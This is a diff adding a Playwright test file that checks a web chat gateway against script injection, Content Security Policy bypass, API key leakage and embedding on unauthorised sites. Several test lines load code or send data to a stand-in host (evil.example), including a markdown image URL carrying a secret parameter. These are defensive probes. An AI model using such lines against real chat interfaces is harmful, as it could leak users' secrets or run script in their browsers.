@@ -1,0 +1,228 @@
+"""What the web chat keeps from happening: text that acts, strangers who read, and sites that may not show it."""
+
+from __future__ import annotations
+
+from base64 import b64encode
+from collections.abc import Iterator
+from dataclasses import dataclass
+from hashlib import sha256
+
+import pytest
+from playwright.sync_api import FrameLocator, Page, expect
+
+from tests.browser.chromium import Guard
+from tests.browser.conftest import Start
+from tests.browser.replies import HOSTILE
+from tests.browser.site import OtherSite, Site, serving
+from tests.browser.talk import answered, say, text_of
+from tests.fakes.openai_server import Say
+
+DANGEROUS = "script, style, link, iframe, object, embed, svg, math, img, video, form, input, base, meta, [style]"
+IN_REPLIES = ", ".join(f".text {name.strip()}" for name in DANGEROUS.split(","))
+HANDLERS = """() => [...document.querySelectorAll('.text *')]
+    .flatMap((node) => [...node.attributes].map((attribute) => attribute.name))
+    .filter((name) => name.startsWith('on') || name.startsWith('src'))"""
+ADDRESSES = "() => [...document.querySelectorAll('.text a')].map((link) => link.getAttribute('href'))"
+
+
+TRY = """() => new Promise((resolve) => {{
+    document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), {{once: true}});
+    try {{ {attempt} }} catch {{ }}
+}})"""
+
+
+def everything_is_dead(page: Page) -> None:
+    """Whatever was written is text. That no script ran and nothing was fetched is what the guard sees to."""
+    expect(page.locator(IN_REPLIES)).to_have_count(0)
+    assert page.evaluate(HANDLERS) == []
+    assert [address for address in page.evaluate(ADDRESSES) if not address.startswith("https://")] == []
+    expect(page.get_by_role("textbox", name="Message")).to_be_visible()
+
+
+def test_a_reply_cannot_do_anything_neither_in_pieces_nor_whole(page: Page, site: Site) -> None:
+    site.fake.script(Say(HOSTILE, chunks=60))
+    say(page, "Attack me")
+    expect(text_of(answered(page))).to_contain_text("The end.")
+    everything_is_dead(page)
+    page.reload()
+    expect(text_of(answered(page))).to_contain_text("The end.")
+    everything_is_dead(page)
+
+
+def test_a_message_cannot_do_anything_and_stays_as_it_was_written(page: Page) -> None:
+    say(page, HOSTILE)
+    answered(page)
+    assert page.locator(".said .text").text_content() == HOSTILE.strip()
+    everything_is_dead(page)
+
+
+def test_an_image_is_a_link_and_a_link_says_where_it_leads(page: Page, site: Site) -> None:
+    site.fake.script("![A cat](https://evil.example/cat.png?secret=1) and [your bank](https://evil.example/)")
+    say(page, "Show me")
+    reply = text_of(answered(page))
+    expect(reply.get_by_role("link", name="Image: A cat")).to_have_attribute(
+        "title", "https://evil.example/cat.png?secret=1"
+    )
+    expect(reply.get_by_role("link", name="your bank")).to_have_attribute("title", "https://evil.example/")
+
+
+ATTEMPTS = {
+    "document.body.innerHTML = '<b>x</b>'": "require-trusted-types-for",
+    "trustedTypes.createPolicy('mine', {})": "trusted-types",
+    "import('https://evil.example/x.js').catch(() => {})": "script-src-elem",
+    "fetch('https://evil.example/').catch(() => {})": "connect-src",
+    "new Image().src = 'https://evil.example/x.png'": "img-src",
+    "document.body.append(Object.assign(document.createElement('iframe'), {src: '/healthz'}))": "frame-src",
+    "document.body.setAttribute('style', 'color: red')": "style-src-attr",
+}
+
+
+def test_the_browser_refuses_what_would_slip_through(page: Page, guard: Guard) -> None:
+    expect(page.get_by_role("textbox", name="Message")).to_be_enabled()
+    refused = {attempt: page.evaluate(TRY.format(attempt=attempt)) for attempt in ATTEMPTS}
+    assert refused == ATTEMPTS
+    guard.wrongs.clear()  # the browser complains in the console
+
+
+# ---------------------------------------------------------------- a key
+
+
+@pytest.fixture
+def locked(start: Start, empty: Page) -> Page:
+    """The chat of a gateway that asks for a key."""
+    empty.goto(start(GATEWAY_API_KEYS="key-one, key-two").url)
+    return empty
+
+
+def give(page: Page, key: str) -> None:
+    page.get_by_label("API key").fill(key)
+    page.get_by_label("API key").press("Enter")
+
+
+def test_a_key_is_asked_for_and_kept_in_this_tab_alone(locked: Page) -> None:
+    addresses: list[str] = []
+    locked.on("request", lambda request: addresses.append(request.url))
+    dialog = locked.get_by_role("dialog", name="This chat asks for a key")
+    expect(dialog).to_contain_text("It stays in this tab until you close it")
+    locked.keyboard.press("Escape")
+    expect(dialog).to_be_visible()
+    give(locked, "wrong")
+    expect(locked.get_by_role("alert")).to_have_text("This key is not taken. Look whether it is complete.")
+    give(locked, "key-one")
+    expect(dialog).to_be_hidden()
+    say(locked, "Hello")
+    expect(text_of(answered(locked))).to_have_text("You said: Hello")
+    locked.reload()
+    expect(text_of(answered(locked))).to_have_text("You said: Hello")
+    assert locked.evaluate("JSON.stringify(localStorage)").count("key-one") == 0
+    assert [address for address in addresses if "key-one" in address] == []
+    other = locked.context.new_page()
+    other.goto(locked.url)
+    expect(other.get_by_role("dialog")).to_be_visible()
+    other.close()
+
+
+def test_another_key_sees_nothing_of_the_thread(locked: Page) -> None:
+    give(locked, "key-one")
+    say(locked, "A secret of the first key")
+    answered(locked)
+    locked.get_by_role("button", name="Change key").click()
+    give(locked, "key-two")
+    expect(locked.locator("#notice")).to_contain_text("no longer there")
+    expect(locked.locator(".said")).to_have_count(0)
+
+
+def test_a_key_that_is_not_taken_any_more_is_asked_for_again_and_the_message_is_not_lost(locked: Page) -> None:
+    locked.evaluate("sessionStorage.setItem('chat.key', 'old')")
+    locked.reload()
+    say(locked, "Hello")
+    expect(locked.get_by_role("alert")).to_have_text("This key is not taken any more.")
+    give(locked, "key-two")
+    expect(text_of(answered(locked))).to_have_text("You said: Hello")
+
+
+# ---------------------------------------------------------------- on another site
+
+
+CSS = "* { color: red !important; } button, div { width: 3px !important; } div:empty { display: none !important; }"
+HOST = """<!doctype html><title>A shop</title>
+<meta http-equiv="Content-Security-Policy" content="default-src 'none'; script-src {gateway}; frame-src {gateway};
+  style-src 'sha256-{style}'">
+<style>{css}</style>
+<h1>A shop</h1><a href="#">A link</a>
+<script src="{gateway}/embed.js" async data-title="Ask us" data-position="left" data-color="#ffd400"></script>"""
+CONTENT_OF_FRAME = "() => document.body.lastElementChild.shadowRoot.querySelector('iframe').contentDocument"
+
+
+@dataclass(frozen=True)
+class Shop:
+    """Somebody else's site, and the same by another name: another origin."""
+
+    site: OtherSite
+    address: str
+
+    @property
+    def alias(self) -> str:
+        return self.address.replace("127.0.0.1", "localhost")
+
+
+@pytest.fixture
+def shop() -> Iterator[Shop]:
+    site = OtherSite()
+    with serving(site) as address:
+        yield Shop(site, address)
+
+
+@pytest.fixture
+def visitor(shop: Shop, start: Start, empty: Page) -> Page:
+    """Before the shop, which embeds a gateway that allows it."""
+    digest = b64encode(sha256(CSS.encode()).digest()).decode()
+    shop.site.html = HOST.format(gateway=start(CORS_ORIGINS=shop.address).url, css=CSS, style=digest)
+    return empty
+
+
+def inside(page: Page) -> FrameLocator:
+    return page.frame_locator("iframe[title='Ask us']")
+
+
+def test_one_script_tag_puts_a_chat_on_a_site_that_is_allowed(shop: Shop, visitor: Page) -> None:
+    visitor.goto(shop.address)
+    launch = visitor.get_by_role("button", name="Ask us")
+    expect(launch).to_have_css("width", "56px")
+    expect(launch).to_have_css("background-color", "rgb(255, 212, 0)")
+    expect(launch).to_have_css("color", "rgb(0, 0, 0)")
+    assert visitor.frames[1:] == []
+    launch.click()
+    expect(visitor.get_by_role("dialog", name="Ask us")).to_be_visible()
+    inside(visitor).get_by_role("textbox", name="Message").fill("Hello")
+    inside(visitor).get_by_role("button", name="Send").click()
+    expect(inside(visitor).locator(".reply .text")).to_have_text("You said: Hello")
+    assert visitor.evaluate(CONTENT_OF_FRAME) is None
+    assert visitor.context.cookies() == []
+    visitor.reload()
+    visitor.get_by_role("button", name="Ask us").click()
+    expect(inside(visitor).locator(".reply .text")).to_have_text("You said: Hello")
+
+
+def test_a_site_that_is_not_allowed_gets_no_page(shop: Shop, visitor: Page, guard: Guard) -> None:
+    visitor.goto(shop.alias)
+    with visitor.expect_event("console", lambda message: "frame-ancestors" in message.text):
+        visitor.get_by_role("button", name="Ask us").click()
+    expect(inside(visitor).get_by_role("textbox")).to_have_count(0)
+    visitor.get_by_role("button", name="Close the chat").click()
+    expect(visitor.get_by_role("button", name="Ask us")).to_be_focused()
+    guard.wrongs.clear()  # the browser complains in the console
+
+
+def test_the_panel_opens_and_closes_by_the_keyboard(shop: Shop, visitor: Page) -> None:
+    visitor.goto(shop.address)
+    launch = visitor.get_by_role("button", name="Ask us")
+    launch.wait_for()
+    for _ in range(2):
+        visitor.keyboard.press("Tab")
+    expect(launch).to_be_focused()
+    visitor.keyboard.press("Enter")
+    expect(inside(visitor).get_by_role("textbox", name="Message")).to_be_focused()
+    visitor.keyboard.press("Escape")
+    expect(launch).to_be_focused()
+    expect(launch).to_have_attribute("aria-expanded", "false")
